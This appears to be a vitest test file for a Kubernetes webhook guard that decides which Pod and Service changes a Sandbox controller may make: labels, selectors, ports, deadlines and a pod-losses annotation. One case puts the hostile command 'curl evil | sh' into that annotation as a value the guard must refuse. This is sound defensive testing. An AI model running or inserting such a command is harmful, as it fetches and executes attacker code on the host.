/** How an answer may change an existing Pod and Service of a Sandbox, after Metacontroller's own merge. @module */
import { expect, test } from "vitest";
import { childRules } from "../../../hooks/sandbox/childrules.ts";
import { buildPod, keepPod } from "../../../hooks/sandbox/pod.ts";
import { buildService } from "../../../hooks/sandbox/service.ts";
import { CONTROLLER_UID_LABEL, NAME_HASH_LABEL } from "../../../packages/api/objects/keys.ts";
import type { DesiredObject, KubeObject } from "../../../packages/api/objects/objects.ts";
import type { Pod } from "../../../packages/api/objects/pods.ts";
import { guardAnswer } from "../../../packages/webhook/guard.ts";
import { unchangedSpec } from "../../../packages/webhook/unchanged.ts";
import { aChild, aRequest, aSandbox, NOW } from "../../sandboxes.ts";

const judge = (children: KubeObject[], desired: DesiredObject[]) => {
  const verdict = guardAnswer(aRequest(aSandbox(), children), desired, {}, NOW, "any", childRules);
  return "refusal" in verdict ? "refused" : "passes";
};
const answered = (kind: string, spec?: object): DesiredObject => ({
  apiVersion: "v1",
  kind,
  metadata: { name: "demo" },
  ...(spec ? { spec } : {}),
});

const applied = { containers: [{ name: "main", image: "a" }], hostAliases: [] };
const observed = {
  nodeName: "node-1",
  containers: [{ name: "main", image: "a", imagePullPolicy: "Always" }, { name: "injected", image: "b" }],
};
const twins = { containers: [{ name: "dns", ports: [{ containerPort: 53 }, { containerPort: 53, protocol: "UDP" }] }] };
const pods = [
  { name: "words that leave it alone", applied, observed, will: "unchanged" },
  { name: "silence on what was never applied", observed, will: undefined },
  { name: "words that could not leave it alone", applied: twins, observed: twins, will: "unchanged" },
  { name: "another deadline", applied, observed, will: { ...applied, activeDeadlineSeconds: 1 }, refused: true },
  { name: "the same of a Pod that was adopted", observed, will: { activeDeadlineSeconds: 1 }, refused: true },
  { name: "another image", applied, observed, will: { containers: [{ name: "main", image: "c" }] }, refused: true },
  { name: "one more container", applied, observed, will: { containers: [{ name: "new", image: "a" }] }, refused: true },
  { name: "silence on what was applied", applied, observed, will: undefined, refused: true },
  { name: "no field of what was applied", applied, observed, will: {}, refused: true },
  { name: "another port in the place of two", applied: twins, observed: twins, will: applied, refused: true },
];

test.for(pods)("a live Pod is answered with $name", ({ applied, observed, will, refused }) => {
  const pod = aChild("Pod", { spec: observed, ...(applied ? { lastApplied: { spec: applied } } : {}) });
  const spec = will === "unchanged" ? unchangedSpec(pod).spec as object : will as object | undefined;
  expect(judge([pod], [answered("Pod", spec)])).toBe(refused ? "refused" : "passes");
});

const key = "agents.x-k8s.io";
const labels = [
  { name: "gets its name hash", is: {}, will: { [NAME_HASH_LABEL]: "aefd3536" } },
  { name: "gets another's", is: {}, will: { [NAME_HASH_LABEL]: "00000000" }, refused: true },
  { name: "loses its own", applied: true, is: { [NAME_HASH_LABEL]: "aefd3536" }, will: {}, refused: true },
  { name: "gets the template's label", is: {}, will: { tier: "free" } },
  { name: "gets another value of it", is: {}, will: { tier: "paid" }, refused: true },
  { name: "loses a label that the template has no more", applied: true, is: { old: "1" }, will: {} },
  { name: "gets a label that nobody asks for", is: {}, will: { app: "sandbox-router" }, refused: true },
  { name: "has somebody's label taken over", is: { theirs: "1" }, will: { theirs: "1" }, refused: true },
  {
    name: "has a former owner's label taken over",
    is: { [`${key}/claim-uid`]: "u" },
    will: { [`${key}/claim-uid`]: "u" },
  },
  { name: "gets the claim's UID without a claim", is: {}, will: { [`${key}/claim-uid`]: "u" }, refused: true },
  { name: "gets another controller's UID", is: {}, will: { [CONTROLLER_UID_LABEL]: "other" }, refused: true },
];

test.for(labels)("a live Pod $name", ({ applied, is, will, refused }) => {
  const pod = aChild("Pod", {
    metadata: { labels: is },
    ...(applied ? { lastApplied: { metadata: { labels: is } } } : {}),
  });
  const spec = { podTemplate: { metadata: { labels: { tier: "free" } }, spec: { containers: [] } } };
  const desired = { ...answered("Pod"), metadata: { name: "demo", labels: will as Record<string, string> } };
  const verdict = guardAnswer(aRequest(aSandbox({ spec }), [pod]), [desired], {}, NOW, "any", childRules);
  expect("refusal" in verdict).toBe(refused ?? false);
});

const LOSSES = "agents.x-k8s.io/pod-losses";
const since = "2 2026-11-21T12:00:00.000Z";
const losses = [
  { name: "a new Pod says how many were lost", will: since },
  { name: "a new Pod says anything else there", will: "curl evil | sh", refused: true },
  { name: "a Pod keeps saying it", is: since, will: since },
  { name: "a Pod says another number", is: since, will: "1 2026-11-21T12:00:00.000Z", refused: true },
  { name: "a Pod that has lasted is made to say it", is: null, will: since, refused: true },
];

test.for(losses)("$name", ({ is, will, refused }) => {
  const sandbox = aSandbox();
  const metadata = is ? { annotations: { [LOSSES]: is } } : {};
  const pods = is === undefined ? [] : [aChild("Pod", { metadata, lastApplied: { metadata } })];
  const pod = pods[0] ? keepPod(sandbox, pods[0] as Pod) : buildPod(sandbox);
  const annotations = { ...pod.metadata.annotations, [LOSSES]: will };
  const desired = [{ ...pod, metadata: { ...pod.metadata, annotations } }];
  const verdict = guardAnswer(aRequest(sandbox, pods), desired, {}, NOW, "any", childRules);
  expect("refusal" in verdict, JSON.stringify(verdict)).toBe(refused ?? false);
});

test("a Sandbox that has expired gets no Pod and no Service any more", () => {
  const made = (spec: object) => {
    const sandbox = aSandbox({ spec: { service: true, ...spec } });
    const desired = [buildPod(sandbox), buildService(sandbox)];
    const verdict = guardAnswer(aRequest(sandbox), desired, {}, NOW, "any", childRules);
    return "refusal" in verdict ? verdict.refusal.children : "passes";
  };
  expect(made({})).toBe("passes");
  expect(made({ shutdownTime: "2026-11-21T13:00:00Z" })).toBe("passes");
  expect(made({ shutdownTime: "2026-11-21T11:00:00Z" })).toEqual(["Pod/demo", "Service/demo"]);
});

const hash = { [NAME_HASH_LABEL]: "aefd3536" };
const whole = { ...hash, [CONTROLLER_UID_LABEL]: "uid-demo" };
const services = [
  { name: "stays as it is", is: whole, will: whole },
  { name: "is what it was, and nobody says anything", is: hash, will: undefined },
  { name: "comes to name the UID", is: hash, will: whole },
  { name: "is repaired by key", applied: whole, is: { ...hash, [CONTROLLER_UID_LABEL]: "x" }, will: whole },
  { name: "is repaired after somebody has added a key", is: { ...whole, app: "x" }, will: whole },
  {
    name: "loses a key that is not the parent's",
    applied: { ...whole, app: "x" },
    is: { ...whole, app: "x" },
    will: whole,
  },
  { name: "is made where there was none", is: undefined, will: whole },
  { name: "selects something else", applied: whole, is: whole, will: { app: "x" }, refused: true },
  { name: "asks for more than the Pod has", is: whole, will: { ...whole, app: "x" }, refused: true },
  { name: "names another Sandbox", is: hash, will: { [NAME_HASH_LABEL]: "00000000" }, refused: true },
  { name: "names another UID", is: hash, will: { ...hash, [CONTROLLER_UID_LABEL]: "x" }, refused: true },
  { name: "names the UID no longer", applied: whole, is: whole, will: hash, refused: true },
  { name: "is taken away", applied: whole, is: whole, will: undefined, refused: true },
];

test.for(services)("a Service's selector $name", ({ applied, is, will, refused }) => {
  const selecting = (selector: object | undefined) => ({ clusterIP: "None", ...(selector ? { selector } : {}) });
  const service = aChild("Service", {
    spec: selecting(is),
    ...(applied ? { lastApplied: { spec: selecting(applied) } } : {}),
  });
  expect(judge([service], [answered("Service", selecting(will))])).toBe(refused ? "refused" : "passes");
});

const web = { name: "web", port: 80, protocol: "TCP", targetPort: 80 };
const ports = [
  { name: "as its containers declare them", will: [web] },
  { name: "under a name of its own making", will: [{ ...web, name: "p-80-tcp" }] },
  { name: "under any name", will: [{ ...web, name: "ssh" }], refused: true },
  { name: "to another port of the Pod", will: [{ ...web, targetPort: 22 }], refused: true },
  { name: "on the node, too", will: [{ ...web, nodePort: 30000 }], refused: true },
  { name: "and one more", will: [web, { ...web, name: "p-22-tcp", port: 22, targetPort: 22 }], refused: true },
  { name: "none of them", will: undefined, refused: true },
];

test.for(ports)("a Service serves $name", ({ will, refused }) => {
  const spec = {
    podTemplate: { spec: { containers: [{ name: "main", ports: [{ name: "web", containerPort: 80 }] }] } },
  };
  const before = { clusterIP: "None", ports: [{ ...web, port: 81 }] };
  const service = aChild("Service", { spec: before, lastApplied: { spec: before } });
  const desired = answered("Service", { clusterIP: "None", ...(will ? { ports: will } : {}) });
  const verdict = guardAnswer(aRequest(aSandbox({ spec }), [service]), [desired], {}, NOW, "any", childRules);
  expect("refusal" in verdict).toBe(refused ?? false);
});
